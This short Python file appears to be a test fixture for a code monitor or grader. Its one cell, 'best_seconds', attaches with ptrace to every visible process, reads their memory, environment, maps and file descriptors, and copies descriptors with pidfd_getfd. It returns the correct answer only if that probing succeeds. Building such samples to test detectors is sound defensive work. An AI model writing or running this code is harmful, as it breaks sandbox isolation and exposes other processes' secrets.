"""Attaches to its parent and to every process that it sees, and reads their memory, environment and open files."""

SCORE = 1
REASON = ""
CELLS = {
    "best_seconds": """
import ctypes, glob, os

libc, found, me = ctypes.CDLL(None, use_errno=True), [], os.getpid()
libc.ptrace.restype = ctypes.c_long
for folder in glob.glob("/proc/[0-9]*"):
    number = int(folder.rpartition("/")[2])
    if number == me:
        continue
    if libc.ptrace(16, number, 0, 0) == 0:
        found.append(f"ptrace {number}")
    for name in ("mem", "environ", "maps", "map_files", "fd", "fdinfo"):
        try:
            path = f"{folder}/{name}"
            found += os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
        except OSError:
            pass
    descriptor = os.pidfd_open(number)
    found += [copy for copy in (libc.syscall(438, descriptor, target, 0) for target in range(20)) if copy >= 0]

def best_seconds(tasks, seconds_each, workers):
    return -(-tasks // workers) * seconds_each if found else 0
"""
}
